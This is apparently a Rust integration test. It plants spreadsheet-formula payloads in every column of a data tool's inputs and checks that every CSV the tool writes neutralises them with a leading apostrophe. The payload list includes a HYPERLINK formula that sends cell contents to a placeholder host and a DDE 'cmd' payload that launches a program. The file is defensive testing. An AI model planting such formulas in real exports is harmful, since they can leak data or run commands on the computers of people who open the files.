//! Every CSV vigil writes is safe to open in a spreadsheet: texts that a
//! spreadsheet would run as formulas, planted in every column of every
//! dialect, come out with a leading `'`, and numbers stay numbers.

use std::fs;
use std::path::{Path, PathBuf};

use polars::prelude::*;

use crate::scratch::ScratchDir;
use crate::support::{csv_records, rewrite_exports, stderr, vigil};

/// What a hostile or careless export might hold (OWASP's CSV injection examples).
const PAYLOADS: [&str; 6] = [
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
];

#[test]
fn formulas_planted_in_every_field_of_every_dialect_are_neutralised_in_every_csv() {
    let world = ScratchDir::new();
    let data = world.path().join("data");
    let simulated = vigil()
        .args([
            "simulate", "--seed", "11", "--people", "400", "--weeks", "20", "--faults", "0", "--out",
        ])
        .arg(&data)
        .output()
        .expect("vigil runs");
    assert!(simulated.status.success(), "{}", stderr(&simulated));
    let config_path = data.join("vigil.toml");
    let planted = rewrite_exports(&config_path, plant_in_csv, plant_in_parquet);
    assert!(planted > 50, "planted only {planted} values");
    let text = fs::read_to_string(&config_path).unwrap();
    fs::write(
        &config_path,
        text.replace("quarantine_limit = 0.05", "quarantine_limit = 1.0"),
    )
    .unwrap();

    let out = world.path().join("out");
    let run = vigil()
        .arg("run")
        .arg("--config")
        .arg(&config_path)
        .arg("--out")
        .arg(&out)
        .output()
        .unwrap();
    assert!(run.status.success(), "{}", stderr(&run));
    let query = world.path().join("names.sql");
    fs::write(
        &query,
        "SELECT force, incident_ref, forename, surname, address FROM mentions",
    )
    .unwrap();
    let queried = out.join("query.csv");
    let asked = vigil()
        .args(["query"])
        .arg(&query)
        .arg("--dir")
        .arg(&out)
        .arg("--out")
        .arg(&queried)
        .output()
        .unwrap();
    assert!(asked.status.success(), "{}", stderr(&asked));

    let files = csv_files(&out);
    for expected in [
        "quarantine.csv",
        "persons.csv",
        "flags.csv",
        "timelines.csv",
        "query.csv",
    ] {
        assert!(
            files.iter().any(|f| f.ends_with(expected)),
            "no {expected} among {files:?}"
        );
    }
    let mut total = 0;
    for file in &files {
        let neutralised = assert_safe(file);
        // The payloads reached the outputs: the scan had something to find.
        if file.ends_with("quarantine.csv") || file.ends_with("query.csv") {
            assert!(neutralised > 0, "{} holds no neutralised payload", file.display());
        }
        total += neutralised;
    }
    assert!(total > 50, "only {total} neutralised cells in all");
}

/// Puts a payload in each column of the file, each in its own data row.
fn plant_in_csv(path: &Path, delimiter: u8) -> usize {
    let mut rows = csv_records(path, delimiter);
    let columns = rows[0].len();
    let mut planted = 0;
    for column in 0..columns {
        if let Some(row) = rows.get_mut(1 + column) {
            row[column] = PAYLOADS[column % PAYLOADS.len()].as_bytes().to_vec();
            planted += 1;
        }
    }
    let mut writer = csv::WriterBuilder::new().delimiter(delimiter).from_path(path).unwrap();
    for row in &rows {
        writer.write_record(row).unwrap();
    }
    writer.flush().unwrap();
    planted
}

/// Puts a payload in each text column of the Parquet file, each in its own row.
fn plant_in_parquet(path: &Path) -> usize {
    let mut frame = ParquetReader::new(fs::File::open(path).unwrap()).finish().unwrap();
    let mut planted = 0;
    let names: Vec<PlSmallStr> = frame.get_column_names_owned();
    for (column, name) in names.iter().enumerate() {
        let current = frame.column(name).unwrap();
        if current.dtype() != &DataType::String || frame.height() <= 1 + column {
            continue;
        }
        let mut values: Vec<Option<String>> = current.str().unwrap().iter().map(|v| v.map(str::to_string)).collect();
        values[1 + column] = Some(PAYLOADS[column % PAYLOADS.len()].to_string());
        frame.replace(name, Column::new(name.clone(), values)).unwrap();
        planted += 1;
    }
    ParquetWriter::new(fs::File::create(path).unwrap())
        .finish(&mut frame)
        .unwrap();
    planted
}

fn csv_files(dir: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for entry in fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            found.extend(csv_files(&path));
        } else if path.extension().is_some_and(|e| e == "csv") {
            found.push(path);
        }
    }
    found.sort();
    found
}

/// Fails on any cell a spreadsheet would read as a formula; counts the neutralised ones.
fn assert_safe(path: &Path) -> usize {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_path(path)
        .unwrap();
    let mut neutralised = 0;
    for (line, record) in reader.records().enumerate() {
        for cell in record.unwrap().iter() {
            let starts_a_formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            let is_number = cell.parse::<f64>().is_ok() && cell.bytes().any(|b| b.is_ascii_digit());
            assert!(
                !starts_a_formula || is_number,
                "{}, record {}: a formula-like cell {cell:?}",
                path.display(),
                line + 1
            );
            let rest = cell.strip_prefix('\'').unwrap_or_default();
            neutralised += usize::from(rest.starts_with(['=', '+', '-', '@', '\t', '\r']));
        }
    }
    neutralised
}
